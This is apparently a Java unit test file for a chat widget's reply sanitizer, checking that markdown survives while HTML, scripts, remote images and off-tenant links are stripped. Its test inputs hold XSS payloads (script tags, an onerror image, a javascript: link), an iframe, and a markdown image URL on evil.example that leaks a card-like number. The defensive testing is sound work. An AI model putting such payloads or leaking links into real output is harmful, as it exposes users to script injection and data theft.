package dev.switchboard.webchat.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** Replies keep the markdown the widget renders and lose everything that could load, run or leak. */
class ReplyTextTest {

    private static final List<String> HOSTS = List.of("acme.example", "www.acme.example");

    @Test
    void keepsBoldItalicsListsAndLinksToTheTenantsHosts() {
        String text = "**Listo**, tu visita es *mañana*:\n- 10:00\n- [ver detalles](https://acme.example/visits/7)";
        assertThat(ReplyText.clean(text, HOSTS)).isEqualTo(text);
    }

    @Test
    void htmlBecomesInertTextAndScriptsDisappearWithTheirContent() {
        String cleaned = ReplyText.clean("Hola <b>Ana</b><script>alert(1)</script><img src=x onerror=alert(2)>"
                + "<!-- hidden --><iframe src=https://evil.example></iframe> fin", HOSTS);
        assertThat(cleaned).isEqualTo("Hola Ana fin");
    }

    @Test
    void imagesBecomeTheirAltTextSoNoRemoteImageIsEverReferenced() {
        String cleaned = ReplyText.clean("Mira ![el mapa](https://evil.example/leak?d=4111-1111) y "
                + "![](https://acme.example/logo.png) y ![ref][1]\n[1]: https://evil.example/x.png", HOSTS);
        assertThat(cleaned).isEqualTo("Mira el mapa y  y ref");
        assertThat(cleaned).doesNotContain("http");
    }

    @Test
    void linksToOtherHostsBecomePlainLabels() {
        assertThat(ReplyText.clean("[pay here](https://evil.example/pay?c=123) or [site](https://www.acme.example)", HOSTS))
                .isEqualTo("pay here or [site](https://www.acme.example)");
        assertThat(ReplyText.clean("[x](javascript:alert(1)) [y](https://acme.example@evil.example/) [z](http://ACME.example/a)", HOSTS))
                .isEqualTo("x y [z](http://ACME.example/a)");
    }

    @Test
    void autolinksSurviveOnlyForTheTenantsHosts() {
        assertThat(ReplyText.clean("<https://acme.example/help> <https://evil.example/a>", HOSTS))
                .isEqualTo("[https://acme.example/help](https://acme.example/help) https://evil.example/a");
    }

    @Test
    void plainTextWithAngleBracketsStays() {
        assertThat(ReplyText.clean("2 < 3 and 5 > 4, te quiero <3", HOSTS)).isEqualTo("2 < 3 and 5 > 4, te quiero <3");
    }
}
